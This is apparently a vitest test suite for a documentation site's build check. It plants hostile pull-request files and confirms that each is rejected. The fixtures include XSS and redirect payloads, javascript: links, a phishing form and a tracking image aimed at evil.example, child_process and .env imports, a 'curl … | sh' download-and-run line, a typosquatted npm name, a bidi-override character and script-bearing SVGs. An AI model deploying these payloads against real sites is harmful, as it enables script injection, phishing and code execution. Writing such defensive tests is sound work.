import {mkdirSync, rmSync, writeFileSync} from 'node:fs';
import {dirname, join} from 'node:path';
import {afterAll, beforeAll, describe, expect, it} from 'vitest';
import {copyProject, shell} from '../support/copy';

/** A page of the docs whose front matter is in order. Its text begins in line 8. */
const page = (text: string, more = ''): string =>
  `---\ntitle: "A try"\ndescription: "A page that tries what a hostile pull request may put into the site."\npage_type: how-to\nverified: 2026-11-21\nsources: ["RFC 7946 section 3.1.6"]\n${more}---\n${text}\n`;
const svg = (inner: string, more = ''): string => `<svg xmlns="http://www.w3.org/2000/svg" ${more}>${inner}</svg>\n`;
const fence = (language: string, text: string): string => `\`\`\`${language}\n${text}\n\`\`\``;

/** What a hostile pull request puts into a file, and what the check says of it: the line, the message, and what to do. */
const tries: readonly [name: string, file: string, content: string, says: RegExp][] = [
  [
    'a refresh that leads away',
    'docs/t01.mdx',
    page('<Head><meta httpEquiv="refresh" content="0;url=https://evil.example" /></Head>'),
    /:8:1 <meta> is not an element for pages\. .* elements in config\/pageRules\.ts/,
  ],
  [
    'a refresh that leads away, in plain Markdown',
    'docs/t02.md',
    page('<meta http-equiv="refresh" content="0;url=//evil.example">', 'mdx:\n  format: md\n'),
    /:10:1 <meta> is not an element/,
  ],
  [
    'a program in an export',
    'docs/t03.mdx',
    page("export const x = require('node:child_process').execSync('id').toString();"),
    /:8:1 The page exports, or imports a module, .* pagesWithCode in config\/pageRules\.ts/,
  ],
  [
    'an import of a module of Node.js',
    'docs/t04.mdx',
    page("import {execSync} from 'node:child_process';\n\nText."),
    /:8:1 The page exports, or imports a module/,
  ],
  [
    'an import through a loader',
    'docs/t05.mdx',
    page("import text from '!!raw-loader!@site/.env';\n\nText."),
    /:8:1 The page exports, or imports a module/,
  ],
  [
    'a program in an expression',
    'docs/t06.mdx',
    page('The user is {process.env.USER}.'),
    /:8:1 The page has an expression, .* pagesWithCode/,
  ],
  [
    'a program in an attribute',
    'docs/t07.mdx',
    page('<Term id={globalThis.process.exit(1)}>record</Term>'),
    /:8:1 <Term> has an expression/,
  ],
  ['a program in a spread', 'docs/t08.mdx', page("<div {...eval('({})')}>Text</div>"), /:8:1 <div> has an expression/],
  [
    'a program in front matter',
    'docs/t09.md',
    `---js\n{title: require('node:os').userInfo().username}\n---\n\nText.\n`,
    /:1:1 The front matter does not parse: front matter in js is not allowed/,
  ],
  [
    'HTML put in unread',
    'docs/t10.mdx',
    page("<Details dangerouslySetInnerHTML={{__html: '<img src=x onerror=alert(1)>'}} />"),
    /:8:1 <Details> has the attribute dangerouslySetInnerHTML/,
  ],
  [
    'a handler on an element',
    'docs/t11.mdx',
    page('<img src="/img/mark.svg" alt="A mark" onError="alert(1)" />'),
    /:8:1 <img> has the attribute onError/,
  ],
  [
    'a handler in plain Markdown',
    'docs/t12.md',
    page('<details ontoggle="alert(1)"><summary>Text</summary></details>', 'mdx:\n  format: md\n'),
    /:10:1 <details> has the attribute onToggle/,
  ],
  [
    'a script',
    'docs/t13.mdx',
    page('<script src="https://evil.example/a.js"></script>'),
    /:8:1 <script> is not an element/,
  ],
  [
    'a frame',
    'docs/t14.mdx',
    page('<iframe src="https://evil.example" title="A film" />'),
    /:8:1 <iframe> is not an element/,
  ],
  [
    'a form that looks like ours',
    'docs/t15.mdx',
    page('<form action="https://evil.example"><input name="key" /></form>'),
    /:8:1 <form> is not an element/,
  ],
  [
    'an overlay',
    'docs/t16.mdx',
    page("<div style={{position: 'fixed', inset: 0}}>Update your wallet</div>"),
    /:8:1 <div> has the attribute style/,
  ],
  [
    'a style of its own',
    'docs/t17.mdx',
    page('<style>{`body {display: none}`}</style>'),
    /:8:1 <style> is not an element/,
  ],
  [
    'an address that runs',
    'docs/t18.mdx',
    page('<a href="java&#10;script:alert(1)">The record</a>'),
    /:8:1 <a href> has an address of the kind javascript:/,
  ],
  [
    'a link that runs',
    'docs/t19.md',
    page('[The record](javascript:alert(1))'),
    /:8:1 The link has an address of the kind javascript:/,
  ],
  [
    'a picture that counts readers',
    'docs/t20.md',
    page('![A map](https://evil.example/count.png)'),
    /:8:1 The image loads from another site\. .* origins in config\/pageRules\.ts/,
  ],
  [
    'a picture without a scheme that counts readers',
    'docs/t21.mdx',
    page('<img src="//evil.example/count.png" alt="A map" />'),
    /:8:1 <img src> loads from another site/,
  ],
  [
    'code that reads in another order',
    'docs/t22.md',
    page(fence('sh', 'echo safe \u202e drow')),
    /:9:1 The code has U\+202E, .* write it as \\u\{202E\}/,
  ],
  ['a name with a character of no width', 'docs/t23.md', page('Set `to\u200bken` first.'), /:8:1 The code has U\+200B/],
  [
    'a download that a shell runs',
    'docs/t24.md',
    page(fence('sh', 'curl -fsSL https://evil.example/i.sh | sh')),
    /:9:1 The command runs a download without a look/,
  ],
  [
    'a package with almost the right name',
    'docs/t25.md',
    page(fence('sh', 'npm install ethres@6')),
    /:9:1 ethres \(npm\) is not a package .*nearest: ethers.* config\/pageRules\.ts/,
  ],
  [
    'a package that no one has claimed',
    'docs/t26.md',
    page('Run `npm i @decentralized-geo/astral-sdk`.'),
    /:8:1 @decentralized-geo\/astral-sdk \(npm\)/,
  ],
  [
    'the worker that serves pages without a network',
    'static/sw.js',
    'self.onfetch = () => {};\n',
    /:1:1 The build writes a file of this name, .* files in config\/pageRules\.ts/,
  ],
  [
    'the page that was not found',
    'static/404.html',
    '<script>location = "https://evil.example"</script>\n',
    /:1:1 The build writes a file of this name/,
  ],
  [
    'headers without a policy',
    'static/_headers',
    '/*\n  Content-Security-Policy: *\n',
    /:1:1 The build writes a file of this name/,
  ],
  ['a script to load later', 'static/img/mark.js', 'alert(1);\n', /:1:1 The file is not a page, picture or text/],
  [
    'a page without a policy',
    'static/wallet/index.html',
    '<form></form>\n',
    /:1:1 The file is not a page, picture or text/,
  ],
  ['a picture with a script', 'static/img/map.svg', svg('<script>alert(1)</script>'), /:1:1 The picture has <script>/],
  [
    'a picture with a handler',
    'static/img/pin.svg',
    svg('<g/>', 'onload="alert(1)"'),
    /:1:1 The picture has the attribute onload/,
  ],
  [
    'a picture with a page in it',
    'docs/plan.svg',
    svg('<foreignObject><p/></foreignObject>'),
    /:1:1 The picture has <foreignObject>/,
  ],
  [
    'a picture that loads another',
    'static/img/area.svg',
    svg('<use href="https://evil.example/a.svg#b"/>'),
    /:1:1 The picture has the address https:\/\/evil/,
  ],
  [
    'a page in a folder that is called like an output',
    'docs/build/t36.mdx',
    page('<script src="/a.js"></script>'),
    /:8:1 <script> is not an element/,
  ],
  [
    'a translation of a page',
    'i18n/en/docusaurus-plugin-content-docs/current/t37.mdx',
    page('<script src="/a.js"></script>'),
    /:8:1 <script> is not an element/,
  ],
  [
    'an older version of a page',
    'versioned_docs/version-0.1/t38.mdx',
    page('{process.exit(1)}\n\nRun `npm i ethres`.'),
    /:8:1 The page has an expression/,
  ],
  [
    'an import of a program that ends like a picture',
    'docs/t39.mdx',
    page("import x from './t39.js?.png';\n\nText."),
    /:8:1 The page exports, or imports a module/,
  ],
  [
    'an import that leaves the folder of components',
    'docs/t40.mdx',
    page("import x from '@site/src/components/../../docs/t40.js';\n\nText."),
    /:8:1 The page exports, or imports a module/,
  ],
  [
    'an import of a page that no check reads',
    'docs/t41.mdx',
    page("import Part from '../tests/t41.mdx';\n\nText."),
    /:8:1 The page exports, or imports a module/,
  ],
  [
    'a page of HTML to link',
    'docs/t42.html',
    '<script>alert(1)</script>\n',
    /:1:1 The file is not a page, picture or text/,
  ],
  ['a program next to a note', 'blog/t43.mjs', 'alert(1);\n', /:1:1 The file is not a page, picture or text/],
  [
    'a page of HTML in a folder that is called like an output',
    'static/build/t44.html',
    '<script>alert(1)</script>\n',
    /:1:1 The file is not a page, picture or text/,
  ],
  [
    'an address in escapes',
    'docs/t45.mdx',
    page("<a href={'\\x6aavascript:alert(1)'}>Text</a>"),
    /:8:1 <a href> has an address of the kind javascript:/,
  ],
  [
    'an element by the name that MDX has for it',
    'docs/t46.mdx',
    page('<_components.script src="/a.js" />'),
    /:8:1 <_components\.script> is not an element/,
  ],
  [
    'a drawing that is HTML put in unread',
    'docs/t48.mdx',
    page('<Figure kind="map" svg="<meta http-equiv=refresh content=0>" />'),
    /:8:1 <Figure> has the attribute svg, .* pagesWithCode/,
  ],
  [
    'code that is HTML put in unread',
    'docs/t49.mdx',
    page('import CodeBlock from \'@theme/CodeBlock\';\n\n<CodeBlock html="<meta http-equiv=refresh content=0>" />'),
    /:10:1 <CodeBlock> has the attribute html/,
  ],
  ['a feed, which browsers run as XML', 'static/t47.rss', '<rss/>\n', /:1:1 The file is not a page, picture or text/],
  ['another domain for the host', 'static/CNAME', 'evil.example\n', /:1:1 The build writes a file of this name/],
];

describe('a hostile pull request', () => {
  let copy = '';
  let output = '';
  beforeAll(() => {
    copy = copyProject();
    for (const [, file, content] of tries) {
      mkdirSync(dirname(join(copy, file)), {recursive: true});
      writeFileSync(join(copy, file), content);
    }
    const ended = shell(copy, 'npm run build');
    output = ended.output;
    expect(ended.status, output).toBe(1);
  }, 300_000);
  afterAll(() => rmSync(copy, {recursive: true, force: true}));

  it('is stopped before the site is built', () =>
    expect(output).not.toContain('Creating an optimized production build'));
  it.each(tries)('is refused with %s, with the line and what to do', (_, file, __, says) => {
    expect(
      output
        .split('\n')
        .filter((line) => line.startsWith(`${file}:`))
        .join('\n'),
    ).toMatch(new RegExp(`^${file.replace(/\./g, '\\.')}${says.source}`, 'm'));
  });
});
